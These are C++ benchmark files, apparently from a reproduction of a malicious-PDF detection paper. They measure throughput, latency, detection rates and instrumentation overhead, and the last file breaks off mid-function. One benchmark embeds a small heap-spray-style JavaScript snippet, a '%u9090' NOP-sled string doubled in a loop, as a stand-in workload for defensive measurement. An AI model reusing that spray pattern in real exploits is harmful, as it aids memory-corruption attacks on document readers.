  // Lift the admission bound so the whole burst is admitted — capacity is
  // what the workers can scan, and a rejection is not a scanned document.
  core::ServeOptions wide = options;
  wide.max_inflight_docs = samples.size() + options.jobs;
  wide.max_inflight_bytes = std::numeric_limits<std::size_t>::max();
  wide.degrade_depth = samples.size() + options.jobs;  // never degrade
  wide.trace_path.clear();  // the trace belongs to the steady phase only
  double best = 0.0;
  for (int r = 0; r < reps; ++r) {
    core::ScanService service(wide);
    std::atomic<std::uint64_t> scanned{0};
    const bench::Timer timer;
    for (const auto& s : samples) {
      service.submit(s.name,
                     support::BytesView(s.data.data(), s.data.size()),
                     nullptr, [&scanned](const core::ScanResponse& response) {
                       if (response.accepted) {
                         scanned.fetch_add(1, std::memory_order_relaxed);
                       }
                     });
    }
    service.drain();
    const double wall = timer.seconds();
    if (wall > 0) {
      best = std::max(best,
                      static_cast<double>(scanned.load()) / wall);
    }
  }
  return best;
}

// One open-loop phase: Poisson arrivals at `rate` docs/s for `duration_s`,
// cycling through the corpus. Every submit gets exactly one response
// (scan or rejection); the phase drains before returning.
LoadResult run_open_loop(core::ScanService& service,
                         const std::vector<corpus::Sample>& samples,
                         double rate, double duration_s,
                         std::uint64_t seed) {
  LoadResult result;
  std::mutex mutex;  // guards latencies + response counters
  support::Rng rng(seed);

  const auto start = std::chrono::steady_clock::now();
  const auto deadline =
      start + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                  std::chrono::duration<double>(duration_s));
  auto next_arrival = start;
  std::size_t cursor = 0;
  while (next_arrival < deadline) {
    std::this_thread::sleep_until(next_arrival);
    const corpus::Sample& s = samples[cursor++ % samples.size()];
    ++result.submitted;
    service.submit(s.name,
                   support::BytesView(s.data.data(), s.data.size()), nullptr,
                   [&mutex, &result](const core::ScanResponse& response) {
                     std::lock_guard<std::mutex> lock(mutex);
                     ++result.responses;
                     if (!response.accepted) {
                       ++result.rejected;
                     } else {
                       result.latencies_s.push_back(response.latency_s);
                     }
                   });
    // Exponential inter-arrival gap — the defining property of a Poisson
    // process. 1 - u keeps log() away from 0.
    const double gap_s = -std::log(1.0 - rng.uniform01()) / rate;
    next_arrival += std::chrono::duration_cast<
        std::chrono::steady_clock::duration>(
        std::chrono::duration<double>(gap_s));
  }
  service.drain();
  return result;
}

double flag_double(int argc, char** argv, const std::string& name,
                   double fallback) {
  for (int i = 1; i < argc; ++i) {
    if (argv[i] == name && i + 1 < argc) return std::atof(argv[i + 1]);
  }
  return fallback;
}

std::string flag_string(int argc, char** argv, const std::string& name,
                        const std::string& fallback) {
  for (int i = 1; i < argc; ++i) {
    if (argv[i] == name && i + 1 < argc) return argv[i + 1];
  }
  return fallback;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string json_path = bench::json_output_path(argc, argv);
  const double steady_duration =
      flag_double(argc, argv, "--duration", 3.0);
  const auto jobs = static_cast<std::size_t>(
      flag_double(argc, argv, "--jobs", 4.0));
  const std::string trace_path = flag_string(argc, argv, "--trace", "");
  bench::print_header("Serve", "open-loop latency under Poisson load");

  const std::vector<corpus::Sample> samples = make_corpus(bench::bench_scale());
  std::size_t corpus_bytes = 0;
  for (const auto& s : samples) corpus_bytes += s.data.size();
  std::cout << "corpus: " << samples.size() << " documents, "
            << bench::mb(static_cast<double>(corpus_bytes)) << ", jobs "
            << jobs << "\n\n";

  core::ServeOptions options;
  options.jobs = jobs;
  options.trace_path = trace_path;

  const double capacity = calibrate_capacity(options, samples, 2);
  if (capacity <= 0) {
    std::cout << "FAIL: capacity calibration produced no throughput\n";
    return 1;
  }
  std::cout << "calibrated capacity: " << bench::fmt(capacity, 1)
            << " docs/s (closed loop, best of 2)\n";

  // Steady phase: the provisioned regime the latency gate watches.
  const double steady_rate = 0.60 * capacity;
  core::ScanService steady_service(options);
  const LoadResult steady = run_open_loop(steady_service, samples,
                                          steady_rate, steady_duration,
                                          /*seed=*/0xbe9c5e12);
  const double p50 = percentile(steady.latencies_s, 50.0);
  const double p99 = percentile(steady.latencies_s, 99.0);
  const core::ServeStats steady_stats = steady_service.stats();
  std::cout << "steady  (" << bench::fmt(steady_rate, 1) << " docs/s, "
            << bench::fmt(steady_duration, 1) << "s): " << steady.submitted
            << " submitted, " << steady.rejected << " rejected, p50 "
            << bench::fmt(p50 * 1000.0, 2) << " ms, p99 "
            << bench::fmt(p99 * 1000.0, 2) << " ms, "
            << steady_stats.steals << " steal(s)\n";

  // Overload phase: 2.5x capacity against a fresh service — admission
  // control must shed the excess explicitly and degradation may engage.
  const double overload_rate = 2.5 * capacity;
  const double overload_duration = std::min(steady_duration, 3.0);
  core::ServeOptions overload_options = options;
  overload_options.trace_path.clear();  // one writer per trace file
  core::ScanService overload_service(overload_options);
  const LoadResult overload = run_open_loop(overload_service, samples,
                                            overload_rate, overload_duration,
                                            /*seed=*/0x51c7a4d9);
  const core::ServeStats overload_stats = overload_service.stats();
  std::cout << "overload (" << bench::fmt(overload_rate, 1) << " docs/s, "
            << bench::fmt(overload_duration, 1) << "s): "
            << overload.submitted << " submitted, " << overload.rejected
            << " rejected, " << overload_stats.degraded_docs
            << " degraded (" << overload_stats.degrade_enters
            << " degradation(s))\n";

  bool ok = true;
  if (steady.responses != steady.submitted ||
      overload.responses != overload.submitted) {
    std::cout << "FAIL: lost responses (steady " << steady.responses << "/"
              << steady.submitted << ", overload " << overload.responses
              << "/" << overload.submitted << ")\n";
    ok = false;
  }
  if (overload.rejected == 0) {
    std::cout << "FAIL: 2.5x overload produced no rejections — admission "
                 "control is not bounding in-flight work\n";
    ok = false;
  }

  if (!json_path.empty()) {
    const std::string key = "Serve/jobs:" + std::to_string(jobs);
    std::vector<bench::BenchResult> results;
    results.push_back({key + "/docs_per_s", capacity, "docs_per_second"});
    results.push_back({key + "/p50_latency_s", p50, "latency_seconds"});
    results.push_back({key + "/p99_latency_s", p99, "latency_seconds"});
    results.push_back({"Serve/overload/rejected",
                       static_cast<double>(overload.rejected), "count"});
    results.push_back({"Serve/overload/degraded",
                       static_cast<double>(overload_stats.degraded_docs),
                       "count"});
    bench::bench_to_json(json_path, "serve", results);
  }
  return ok ? 0 : 1;
}
