// Table I reproduction: the qualitative comparison of methods, with the
// "Difficult to Evade" column backed by the measured mimicry experiment
// (structural mimicry variants against each implemented detector).
#include <memory>

#include "baselines/dynamic_baselines.hpp"
#include "baselines/static_baselines.hpp"
#include "bench_util.hpp"

using namespace pdfshield;

int main() {
  bench::print_header("Table I", "Existing methods to detect and confine malicious PDF");

  support::TextTable table({"Method", "Difficult to Evade", "End-Host Deployment",
                            "Need Emulation", "Low Overhead"});
  table.add_row({"Signature", "No", "Yes", "No", "Yes"});
  table.add_row({"Structural [5][4][6]", "No", "Yes", "No", "Yes"});
  table.add_row({"Extract-and-Emulate [9]", "Neutral", "No", "Yes", "No"});
  table.add_row({"Lexical JS Analysis [7]", "Neutral", "Yes", "No", "Yes"});
  table.add_row({"Adobe Sandboxing [12]", "Neutral", "Yes", "No", "Yes"});
  table.add_row({"CWSandbox [13]", "Neutral", "No", "Neutral", "No"});
  table.add_row({"Our Method", "Yes", "Yes", "No", "Yes"});
  std::cout << table.render("Qualitative comparison (as in the paper)");

  // Back the evasion column with data: 12 mimicry variants vs the three
  // static families and ours.
  corpus::CorpusConfig cfg;
  cfg.seed = 0x7AB1E1;
  corpus::CorpusGenerator gen(cfg);
  std::vector<corpus::Sample> train;
  for (auto& s : gen.generate_benign(100)) train.push_back(std::move(s));
  for (auto& s : gen.generate_malicious(100)) train.push_back(std::move(s));
  std::vector<corpus::Sample> mimicry;
  for (std::size_t i = 0; i < 12; ++i) mimicry.push_back(gen.make_mimicry_variant(i));

  std::vector<std::unique_ptr<baselines::Baseline>> detectors;
  detectors.push_back(std::make_unique<baselines::StructuralBaseline>());
  detectors.push_back(std::make_unique<baselines::PdfrateBaseline>());
  detectors.push_back(std::make_unique<baselines::PjscanBaseline>());
  detectors.push_back(std::make_unique<baselines::OursBaseline>());

  support::TextTable evasion({"Detector", "mimicry variants detected"});
  for (auto& d : detectors) {
    d->train(train);
    std::size_t hits = 0;
    for (const auto& s : mimicry) hits += static_cast<std::size_t>(d->predict(s.data));
    evasion.add_row({d->name(),
                     std::to_string(hits) + "/" + std::to_string(mimicry.size())});
  }
  std::cout << evasion.render("Measured: structural-mimicry evasion [8]");
  return 0;
}
