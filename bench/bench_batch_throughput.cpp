// Batch front-end throughput: docs/s at 1/2/4/8 worker threads over a
// generated corpus, plus a cross-thread-count determinism check (every
// per-document output CRC must match the single-thread run). Shape
// targets: near-linear scaling up to the core count; identical checksum
// columns at every width.
//
// A second measurement pits a traced run (--trace JSONL sink attached)
// against an untraced one at the same width, min-of-3 each; pass
// `--max-trace-overhead PCT` to fail the run when tracing costs more
// than PCT percent of untraced throughput.
//
// A third measurement prices the static JS prefilter: detonating runs
// with the prefilter on vs off (the on/off pair the flag actually
// toggles — analysis cost in, skipped detonations out), plus the raw
// jsstatic analysis cost on a plain scan as an informational line.
// `--max-prefilter-overhead PCT` fails the run when the prefiltered
// detonating batch is more than PCT percent slower than the full one —
// i.e. the analysis cost must pay for itself within that margin even on
// this adversarial 50% malicious corpus (real triage mixes skew far more
// benign, where the skip wins outright).
#include <cstdio>
#include <filesystem>

#include "bench_util.hpp"
#include "core/batch_scanner.hpp"

using namespace pdfshield;

namespace {

std::vector<core::BatchItem> make_items(std::size_t benign,
                                        std::size_t malicious) {
  corpus::CorpusGenerator gen;
  std::vector<core::BatchItem> items;
  for (auto& s : gen.generate_benign(benign)) {
    items.push_back({s.name, std::move(s.data)});
  }
  for (auto& s : gen.generate_malicious(malicious)) {
    items.push_back({s.name, std::move(s.data)});
  }
  return items;
}

std::uint64_t checksum_column(const core::BatchReport& report) {
  std::uint64_t acc = 0;
  for (const auto& doc : report.docs) {
    acc = acc * 1099511628211ULL + doc.output_crc32;
  }
  return acc;
}

double flag_double(int argc, char** argv, const std::string& name,
                   double fallback) {
  for (int i = 1; i < argc; ++i) {
    if (argv[i] == name && i + 1 < argc) return std::atof(argv[i + 1]);
  }
  return fallback;
}

// Best docs/s over `reps` runs — min-of-N wall time filters scheduler
// noise out of the overhead comparison.
core::BatchReport best_of(const core::BatchOptions& options,
                          const std::vector<core::BatchItem>& items,
                          int reps) {
  core::BatchReport best;
  for (int r = 0; r < reps; ++r) {
    core::BatchReport report = core::BatchScanner(options).scan(items);
    if (r == 0 || report.docs_per_s > best.docs_per_s) best = std::move(report);
  }
  return best;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string json_path = bench::json_output_path(argc, argv);
  bench::print_header("Batch", "front-end throughput by worker count");

  const bench::Scale scale = bench::bench_scale();
  const std::vector<core::BatchItem> items =
      make_items(scale.benign_with_js, scale.malicious);
  std::size_t corpus_bytes = 0;
  for (const auto& item : items) corpus_bytes += item.data.size();
  std::cout << "corpus: " << items.size() << " documents, "
            << bench::mb(static_cast<double>(corpus_bytes)) << "\n\n";

  support::TextTable table({"jobs", "wall s", "docs/s", "speedup", "ok",
                            "err", "outputs"});
  std::vector<bench::BenchResult> results;
  double serial_wall = 0;
  std::uint64_t serial_checksum = 0;
  for (std::size_t jobs : {1u, 2u, 4u, 8u}) {
    core::BatchOptions options;
    options.jobs = jobs;
    core::BatchReport report = core::BatchScanner(options).scan(items);
    const std::uint64_t checksum = checksum_column(report);
    if (jobs == 1) {
      serial_wall = report.wall_s;
      serial_checksum = checksum;
    }
    table.add_row(
        {std::to_string(jobs), bench::fmt(report.wall_s),
         bench::fmt(report.docs_per_s, 1),
         bench::fmt(serial_wall > 0 ? serial_wall / report.wall_s : 1.0, 2) +
             "x",
         std::to_string(report.ok_count), std::to_string(report.error_count),
         checksum == serial_checksum ? "identical" : "DIVERGED"});
    if (checksum != serial_checksum) {
      std::cout << "FAIL: outputs diverged at " << jobs << " jobs\n";
      return 1;
    }
    const std::string key = "BatchScan/jobs:" + std::to_string(jobs);
    results.push_back({key + "/docs_per_s", report.docs_per_s,
                       "docs_per_second"});
    results.push_back({key + "/wall_s", report.wall_s, "seconds"});
    results.push_back(
        {key + "/speedup", serial_wall > 0 ? serial_wall / report.wall_s : 1.0,
         "x_vs_serial"});
    results.push_back(
        {key + "/errors", static_cast<double>(report.error_count), "count"});
  }
  std::cout << table;

  // Trace overhead: same corpus, same width, with and without the JSONL
  // event sink attached. ISSUE budget: tracing must stay under 10% of
  // batch throughput (gated in CI via --max-trace-overhead).
  const double max_overhead_pct =
      flag_double(argc, argv, "--max-trace-overhead", -1.0);
  constexpr std::size_t kTraceJobs = 4;
  constexpr int kReps = 3;
  const std::filesystem::path trace_path =
      std::filesystem::temp_directory_path() / "pdfshield-bench-trace.jsonl";

  core::BatchOptions plain_options;
  plain_options.jobs = kTraceJobs;
  const core::BatchReport plain = best_of(plain_options, items, kReps);

  core::BatchOptions traced_options;
  traced_options.jobs = kTraceJobs;
  traced_options.trace_path = trace_path.string();
  const core::BatchReport traced = best_of(traced_options, items, kReps);
  std::error_code ec;
  std::filesystem::remove(trace_path, ec);

  const double overhead_pct =
      plain.docs_per_s > 0
          ? (plain.docs_per_s - traced.docs_per_s) / plain.docs_per_s * 100.0
          : 0.0;
  std::cout << "\ntrace overhead (jobs=" << kTraceJobs << ", best of " << kReps
            << "): " << bench::fmt(plain.docs_per_s, 1) << " -> "
            << bench::fmt(traced.docs_per_s, 1) << " docs/s ("
            << bench::fmt(overhead_pct, 1) << "%, "
            << traced.trace_events << " events)\n";
  results.push_back({"BatchScan/trace/docs_per_s", traced.docs_per_s,
                     "docs_per_second"});
  results.push_back({"BatchScan/trace/overhead_pct", overhead_pct, "percent"});
  results.push_back({"BatchScan/trace/events",
                     static_cast<double>(traced.trace_events), "count"});

  // Raw jsstatic analysis cost (informational): same plain scan with the
  // pass forced on. Nothing is skipped — detonation is off — so the delta
  // is the pure price of folding every script, spray loops included.
  const double max_prefilter_pct =
      flag_double(argc, argv, "--max-prefilter-overhead", -1.0);
  core::BatchOptions analyzed_options;
  analyzed_options.jobs = kTraceJobs;
  analyzed_options.static_prefilter = true;
  const core::BatchReport analyzed = best_of(analyzed_options, items, kReps);
  std::cout << "jsstatic analysis cost (jobs=" << kTraceJobs << ", best of "
            << kReps << "): " << bench::fmt(plain.docs_per_s, 1) << " -> "
            << bench::fmt(analyzed.docs_per_s, 1)
            << " docs/s on a plain scan\n";
  results.push_back({"BatchScan/prefilter/analyze_docs_per_s",
                     analyzed.docs_per_s, "docs_per_second"});

  // The gated on/off pair: detonation with and without the prefilter.
  // min-of-5 rather than min-of-3 — this comparison feeds a CI gate and
  // detonating runs are the noisiest measurement in the file.
  constexpr int kDetReps = 5;
  core::BatchOptions detonate_options;
  detonate_options.jobs = kTraceJobs;
  detonate_options.detonate = true;
  const core::BatchReport det_full =
      best_of(detonate_options, items, kDetReps);
  detonate_options.static_prefilter = true;
  const core::BatchReport det_pref =
      best_of(detonate_options, items, kDetReps);
  const double prefilter_overhead_pct =
      det_full.docs_per_s > 0
          ? (det_full.docs_per_s - det_pref.docs_per_s) / det_full.docs_per_s *
                100.0
          : 0.0;
  std::cout << "prefiltered detonation (jobs=" << kTraceJobs << ", best of "
            << kDetReps << "): " << bench::fmt(det_full.docs_per_s, 1) << " -> "
            << bench::fmt(det_pref.docs_per_s, 1) << " docs/s ("
            << bench::fmt(-prefilter_overhead_pct, 1) << "% net, "
            << det_pref.static_skipped_count << "/" << det_pref.docs.size()
            << " skipped)\n";
  if (det_full.malicious_count != det_pref.malicious_count) {
    std::cout << "FAIL: prefilter changed malicious verdicts ("
              << det_full.malicious_count << " -> "
              << det_pref.malicious_count << ")\n";
    return 1;
  }
  results.push_back({"BatchScan/prefilter_detonate/docs_per_s",
                     det_pref.docs_per_s, "docs_per_second"});
  results.push_back({"BatchScan/prefilter_detonate/overhead_pct",
                     prefilter_overhead_pct, "percent"});
  results.push_back({"BatchScan/prefilter_detonate/skipped",
                     static_cast<double>(det_pref.static_skipped_count),
                     "count"});

  if (!json_path.empty()) {
    bench::bench_to_json(json_path, "batch_throughput", results);
  }
  if (max_overhead_pct >= 0 && overhead_pct > max_overhead_pct) {
    std::cout << "FAIL: trace overhead " << bench::fmt(overhead_pct, 1)
              << "% exceeds budget " << bench::fmt(max_overhead_pct, 1)
              << "%\n";
    return 1;
  }
  if (max_prefilter_pct >= 0 && prefilter_overhead_pct > max_prefilter_pct) {
    std::cout << "FAIL: prefilter overhead "
              << bench::fmt(prefilter_overhead_pct, 1) << "% exceeds budget "
              << bench::fmt(max_prefilter_pct, 1) << "%\n";
    return 1;
  }
  return 0;
}
