// Table VIII reproduction — the headline detection experiment: benign
// (JS-bearing) and malicious documents through the full pipeline
// (instrument -> open in the Acrobat-9 simulator -> runtime detection).
//
// Paper: 994 benign -> 0 false positives; 1000 malicious -> 58 noise
// (exploits that do nothing on Acrobat 8/9, excluded from FN), 917
// detected, 25 missed (spray-then-crash with no static features):
// detection rate 97.3% over exploitable samples.
#include "bench_util.hpp"

using namespace pdfshield;

int main() {
  bench::print_header("Table VIII", "Detection results (full pipeline)");
  const bench::Scale scale = bench::bench_scale();
  corpus::CorpusGenerator gen;

  // --- benign side -----------------------------------------------------------
  std::size_t benign_total = 0, false_positives = 0;
  {
    // Many benign docs share one reader session, as in real use.
    bench::Deployment dep(1);
    for (const auto& s : gen.generate_benign_with_js(scale.benign_with_js)) {
      auto out = dep.run(s);
      ++benign_total;
      if (out.malicious_verdict) ++false_positives;
    }
  }

  // --- malicious side ---------------------------------------------------------
  std::size_t mal_total = 0, detected = 0, noise = 0, missed = 0;
  std::size_t missed_crash = 0, expected_noise_gt = 0, expected_fn_gt = 0;
  bench::Timer timer;
  for (const auto& s : gen.generate_malicious(scale.malicious)) {
    // Fresh reader per sample: exploits and crashes must not contaminate
    // the next document (the paper ran samples in VM snapshots).
    bench::Deployment dep(support::fnv1a64(s.name));
    auto out = dep.run(s);
    ++mal_total;
    if (s.expect_noise) ++expected_noise_gt;
    if (!s.expect_detectable && !s.expect_noise) ++expected_fn_gt;

    const bool did_anything = out.open.crashed || !out.open.fired_cves.empty() ||
                              out.open.js_reported_bytes > (1u << 20);
    if (!did_anything) {
      ++noise;  // sample did nothing on this reader version
      continue;
    }
    if (out.malicious_verdict) {
      ++detected;
    } else {
      ++missed;
      if (out.open.crashed) ++missed_crash;
    }
  }

  support::TextTable table(
      {"Category", "Detected Malicious", "Detected Benign", "Noise", "Total"});
  table.add_row({"Benign Samples", std::to_string(false_positives),
                 std::to_string(benign_total - false_positives), "0",
                 std::to_string(benign_total)});
  table.add_row({"Malicious Samples", std::to_string(detected),
                 std::to_string(missed), std::to_string(noise),
                 std::to_string(mal_total)});
  std::cout << table.render("Detection results");

  const std::size_t exploitable = mal_total - noise;
  const double detection_rate =
      exploitable ? 100.0 * static_cast<double>(detected) /
                        static_cast<double>(exploitable)
                  : 0.0;
  std::cout << "false positive rate: "
            << bench::fmt(100.0 * static_cast<double>(false_positives) /
                              static_cast<double>(benign_total),
                          2)
            << "%  (paper: 0%)\n";
  std::cout << "detection rate over exploitable samples: "
            << bench::fmt(detection_rate, 1) << "%  (paper: 97.3%)\n";
  std::cout << "noise (did nothing on this reader): " << noise << " ("
            << bench::fmt(100.0 * static_cast<double>(noise) /
                              static_cast<double>(mal_total),
                          1)
            << "%, paper ~5.8%); ground-truth version-gated: "
            << expected_noise_gt << "\n";
  std::cout << "missed: " << missed << " of which crash-without-statics: "
            << missed_crash << " (paper: all 25 FNs were spray-then-crash"
            << " samples with no static features)\n";
  std::cout << "wall time (malicious side): " << bench::fmt(timer.seconds(), 1)
            << " s\n";
  return 0;
}
