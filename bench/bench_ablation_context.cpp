// Ablation: context-aware vs context-free monitoring (the design choice
// §III-D motivates and Figure 8 illustrates). The same workloads run under
//   (a) the paper's detector (JS-context attribution via instrumentation),
//   (b) a context-free monitor that sees the identical hook events and
//       process memory but has no notion of which document is executing.
// Three effects are measured:
//   1. multi-document false positives — many open benign documents push
//      absolute process memory past any spray threshold;
//   2. detection — both see a lone malicious document's syscalls, but
//   3. attribution — only the context-aware detector can say WHICH of the
//      open documents attacked (the paper's second challenge in §I).
#include <set>

#include "bench_util.hpp"

using namespace pdfshield;

namespace {

/// The strawman: watches absolute process memory and sensitive APIs, and
/// must blame every open document when something fires.
class ContextFreeMonitor {
 public:
  ContextFreeMonitor(sys::Kernel& kernel, int reader_pid,
                     std::uint64_t memory_threshold)
      : kernel_(kernel), memory_threshold_(memory_threshold) {
    for (const std::string& api : sys::Kernel::api_surface()) {
      kernel.install_hook(reader_pid, api, [this](const sys::ApiEvent& e) {
        if (!e.post) {
          // Network traffic alone is not an alarm even context-free
          // (readers phone home legitimately); everything else is.
          if (e.api != "connect" && e.api != "listen") sensitive_api_seen_ = true;
          check_memory(e.memory_bytes);
        }
        return sys::ApiOutcome::kAllow;
      });
    }
  }

  void note_open(const std::string& name) { open_docs_.insert(name); }
  void check_memory(std::uint64_t bytes) {
    if (bytes >= memory_threshold_) memory_alarm_ = true;
  }

  bool alarmed() const { return memory_alarm_ || sensitive_api_seen_; }
  /// Context-free blame: everything currently open.
  const std::set<std::string>& blamed() const { return open_docs_; }

 private:
  sys::Kernel& kernel_;
  std::uint64_t memory_threshold_;
  std::set<std::string> open_docs_;
  bool memory_alarm_ = false;
  bool sensitive_api_seen_ = false;
};

}  // namespace

int main() {
  bench::print_header("Ablation", "context-aware vs context-free monitoring");
  corpus::CorpusGenerator gen;
  support::TextTable table({"scenario", "monitor", "alarm", "docs blamed",
                            "correct blame"});

  // --- scenario A: 12 open benign documents, nothing malicious -------------
  {
    auto benign = gen.generate_benign_with_js(12);
    // context-aware
    bench::Deployment aware(1);
    std::size_t aware_alerts = 0;
    for (const auto& s : benign) {
      auto out = aware.run(s);
      if (out.malicious_verdict) ++aware_alerts;
    }
    table.add_row({"12 benign open", "context-aware",
                   aware_alerts ? "YES" : "no", std::to_string(aware_alerts),
                   aware_alerts == 0 ? "yes (none)" : "NO"});
    // context-free: absolute memory crosses the 100 MB line from rendering
    // alone (30 MB base + 12 documents), before any Javascript misbehaves.
    sys::Kernel kernel;
    reader::ReaderSim reader(kernel);
    ContextFreeMonitor naive(kernel, reader.pid(), 100ull << 20);
    for (const auto& s : benign) {
      naive.note_open(s.name);
      reader.open_document(s.data, s.name);
      naive.check_memory(reader.process().memory_bytes());
    }
    table.add_row({"12 benign open", "context-free",
                   naive.alarmed() ? "YES" : "no",
                   std::to_string(naive.alarmed() ? naive.blamed().size() : 0),
                   naive.alarmed() ? "NO (all innocent)" : "yes (none)"});
  }

  // --- scenario B: 5 benign + 1 malicious in one session ---------------------
  {
    corpus::CorpusConfig cfg;
    cfg.seed = 0xAB1A;
    cfg.frac_noise = cfg.frac_crash_plain = cfg.frac_crash_obfuscated = 0;
    cfg.frac_render_context = cfg.frac_staged = cfg.frac_delayed = 0;
    cfg.frac_egghunt = cfg.frac_inject = cfg.frac_shell = 0;
    corpus::CorpusGenerator mal_gen(cfg);
    auto benign = gen.generate_benign_with_js(5);
    auto malicious = mal_gen.generate_malicious(1);

    bench::Deployment aware(2);
    std::set<std::string> aware_blamed;
    for (const auto& s : benign) {
      if (aware.run(s).malicious_verdict) aware_blamed.insert(s.name);
    }
    if (aware.run(malicious[0]).malicious_verdict) {
      aware_blamed.insert(malicious[0].name);
    }
    const bool aware_correct = aware_blamed.size() == 1 &&
                               aware_blamed.count(malicious[0].name) == 1;
    table.add_row({"5 benign + 1 malicious", "context-aware", "YES",
                   std::to_string(aware_blamed.size()),
                   aware_correct ? "yes (exact document)" : "NO"});

    sys::Kernel kernel;
    reader::ReaderSim reader(kernel);
    ContextFreeMonitor naive(kernel, reader.pid(), 100ull << 20);
    for (const auto& s : benign) {
      naive.note_open(s.name);
      reader.open_document(s.data, s.name);
      naive.check_memory(reader.process().memory_bytes());
    }
    naive.note_open(malicious[0].name);
    reader.open_document(malicious[0].data, malicious[0].name);
    naive.check_memory(reader.process().memory_bytes());
    table.add_row({"5 benign + 1 malicious", "context-free",
                   naive.alarmed() ? "YES" : "no",
                   std::to_string(naive.blamed().size()),
                   "NO (cannot pinpoint)"});
  }

  std::cout << table.render("Same hook events, with and without JS-context");
  std::cout << "context-aware monitoring removes both failure modes: the\n"
               "multi-document memory false positive (Fig. 8) and the\n"
               "which-document-attacked ambiguity (challenge 2, §I).\n";
  return 0;
}
