// Table X reproduction: execution time of static analysis &
// instrumentation by document size (the paper's 2 KB ... 19.7 MB ladder),
// broken into parse+decompress / feature extraction / instrumentation.
// Shape targets: totals grow roughly linearly; parse+decompress dominates
// (>95%) for large files; instrumentation cost tracks the script count,
// not the file size.
#include "bench_util.hpp"
#include "corpus/builders.hpp"

using namespace pdfshield;

namespace {

support::Bytes doc_of_size(std::size_t target_bytes, int scripts,
                           std::uint64_t seed) {
  support::Rng rng(seed);
  corpus::DocumentBuilder builder(rng);
  const int pages = std::max<int>(1, static_cast<int>(target_bytes / 1060));
  builder.add_pages(pages, 3000);
  for (int i = 0; i < scripts; ++i) {
    builder.add_named_js("s" + std::to_string(i),
                         "var v" + std::to_string(i) + " = " +
                             std::to_string(i) + ";");
  }
  return builder.build();
}

}  // namespace

int main() {
  bench::print_header("Table X", "Execution time of static analysis & instrumentation");

  struct Case {
    const char* label;
    std::size_t bytes;
    int scripts;
  };
  const Case cases[] = {
      {"~2 KB", 2u << 10, 2},     {"~9 KB", 9u << 10, 1},
      {"~24 KB", 24u << 10, 1},   {"~325 KB", 325u << 10, 1},
      {"~7.0 MB", 7u << 20, 1},   {"~19.7 MB", (19u << 20) + (7u << 16), 1},
  };

  support::TextTable table({"PDF Size", "actual", "Parse & Decompress",
                            "Feature Extraction", "Instrumentation", "Total"});
  support::Rng rng(5);
  core::FrontEnd frontend(rng, core::generate_detector_id(rng));

  double small_total = 0, large_total = 0, large_parse = 0;
  for (const Case& c : cases) {
    const support::Bytes file = doc_of_size(c.bytes, c.scripts, c.bytes);
    // Median of 3 runs for stability.
    core::PhaseTimings best{};
    double best_total = 1e18;
    for (int run = 0; run < 3; ++run) {
      core::FrontEndResult r = frontend.process(file);
      if (!r.ok) return 1;
      if (r.timings.total_s() < best_total) {
        best_total = r.timings.total_s();
        best = r.timings;
      }
    }
    table.add_row({c.label, bench::mb(static_cast<double>(file.size())),
                   bench::fmt(best.parse_decompress_s, 4) + " s",
                   bench::fmt(best.feature_extraction_s, 4) + " s",
                   bench::fmt(best.instrumentation_s, 4) + " s",
                   bench::fmt(best.total_s(), 4) + " s"});
    if (c.bytes <= (24u << 10)) small_total += best.total_s();
    if (c.bytes >= (7u << 20)) {
      large_total += best.total_s();
      large_parse += best.parse_decompress_s;
    }
  }
  std::cout << table.render("Per-phase timings (best of 3, full-rewrite serialization)");

  // The incremental-update fast path (append-only, like the paper's
  // in-place patcher) against the same ladder.
  support::TextTable inc({"PDF Size", "full rewrite", "incremental update",
                          "speedup"});
  core::FrontEndOptions inc_opts;
  inc_opts.incremental_update = true;
  core::FrontEnd inc_frontend(rng, core::generate_detector_id(rng), inc_opts);
  for (const Case& c : cases) {
    const support::Bytes file = doc_of_size(c.bytes, c.scripts, c.bytes);
    double full = 1e18, fast = 1e18;
    for (int run = 0; run < 3; ++run) {
      core::FrontEndResult a = frontend.process(file);
      full = std::min(full, a.timings.total_s());
      core::FrontEndResult b = inc_frontend.process(file);
      fast = std::min(fast, b.timings.total_s());
    }
    inc.add_row({c.label, bench::fmt(full, 4) + " s", bench::fmt(fast, 4) + " s",
                 bench::fmt(full / std::max(fast, 1e-9), 1) + "x"});
  }
  std::cout << inc.render("Full rewrite vs incremental update (Sec 3.4.5)");

  std::cout << "parse+decompress share of large-file cost: "
            << bench::fmt(100 * large_parse / large_total, 1)
            << "%  (paper: >95%; our phase 3 additionally re-serializes the"
               " whole document, which the paper's in-place patcher avoided,"
               " so its share is structurally larger)\n";
  std::cout << "paper absolute anchors: 0.04 s average per malicious sample,"
               " ~5.5 s for a 20 MB file on 2009-era hardware.\n";

  // Average per-sample cost over the malicious corpus (the 0.04 s anchor).
  corpus::CorpusGenerator gen;
  auto mal = gen.generate_malicious(100);
  bench::Timer timer;
  for (const auto& s : mal) frontend.process(s.data);
  std::cout << "average front-end time over " << mal.size()
            << " malicious samples: "
            << bench::fmt(timer.seconds() / static_cast<double>(mal.size()), 4)
            << " s\n";
  return 0;
}
