// §V-D2 reproduction: runtime overhead of the context monitoring code.
// The paper crafts 20 documents containing 1..20 copies of one script and
// measures JS execution time before/after instrumentation: ~0.093 s for a
// single script, linear growth, still under 2 s at 20 scripts.
// Shape targets here: per-script overhead is constant (linear total) and
// the instrumented/uninstrumented delta stays modest in absolute terms.
#include "bench_util.hpp"
#include "corpus/builders.hpp"

using namespace pdfshield;

namespace {

support::Bytes doc_with_scripts(int count, std::uint64_t seed) {
  support::Rng rng(seed);
  corpus::DocumentBuilder builder(rng);
  builder.add_blank_page();
  // A representative malicious-grade script: string building + arithmetic
  // (spray-shaped but small so the bench isolates monitoring overhead).
  for (int i = 0; i < count; ++i) {
    builder.add_named_js(
        "s" + std::to_string(i),
        "var buf = unescape('%u9090%u9090');"
        "while (buf.length < 4096) buf += buf;"
        "var sum = 0; for (var k = 0; k < 200; k++) sum += k;");
  }
  return builder.build();
}

double js_time_for(const support::Bytes& file, bool instrument,
                   std::uint64_t seed) {
  sys::Kernel kernel;
  support::Rng rng(seed);
  core::RuntimeDetector detector(kernel, rng);
  reader::ReaderSim reader(kernel);
  detector.attach(reader);

  support::Bytes to_open = file;
  if (instrument) {
    core::FrontEnd frontend(rng, detector.detector_id());
    core::FrontEndResult fe = frontend.process(file);
    detector.register_document(fe.record.key, "bench.pdf", fe.features);
    to_open = fe.output;
  }
  bench::Timer timer;
  reader.open_document(to_open, "bench.pdf");
